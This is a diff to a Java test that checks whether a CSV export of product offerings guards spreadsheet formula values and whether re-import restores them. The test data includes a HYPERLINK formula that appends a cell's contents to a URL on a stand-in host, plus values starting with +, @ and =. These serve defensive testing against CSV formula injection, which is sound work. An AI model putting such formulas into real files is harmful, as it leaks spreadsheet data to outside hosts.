@@ -64,11 +64,23 @@ class ExportJobTests {
     @Test
     void aCsvExportReimportsWithEveryRowUnchanged() throws IOException {
         TestHttp admin = admin(activePartner("Round Trip Csv"));
-        JsonNode imported = importAndWait(admin, example("offerings-import.csv"), "text/csv");
+        // texts a spreadsheet would take for formulas: the export guards them, the import takes the guard off
+        String formula = "=HYPERLINK(\"http://example.com/?\"&A1,\"open\")";
+        JsonNode imported = importAndWait(admin, example("offerings-import.csv")
+                .replace("Streamo Basic,", "\"" + formula.replace("\"", "\"\"") + "\",")
+                .replace("\"Ad-free", "\"+Ad-free").replace(",Streamo video streaming,", ",@Streamo video streaming,")
+                .replace("On-demand video", "''=1+1 On-demand video"), "text/csv");
 
         JsonNode export = exportAndWait(admin, "{\"contentType\": \"text/csv\"}");
         TestHttp.Response file = admin.get(export.get("url").asString());
         JsonNode reimported = importAndWait(admin, file.body(), "text/csv");
+
+        assertThat(file.body()).contains(",\"'" + formula.replace("\"", "\"\"") + "\",", ",\"'+Ad-free",
+                ",'@Streamo video streaming,", ",''=1+1 On-demand video").doesNotContain(",=", ",+", ",@");
+        JsonNode offering = admin.get("/tmf-api/productCatalogManagement/v4/productOffering?externalId=streamo-basic")
+                .json().get(0);
+        assertThat(offering.get("name").asString()).isEqualTo(formula);
+        assertThat(offering.get("description").asString()).startsWith("+Ad-free");
 
         assertThat(imported.get("outcomes").get("CREATED").asInt()).isEqualTo(6);
         assertThat(export.get("status").asString()).isEqualTo("Succeeded");
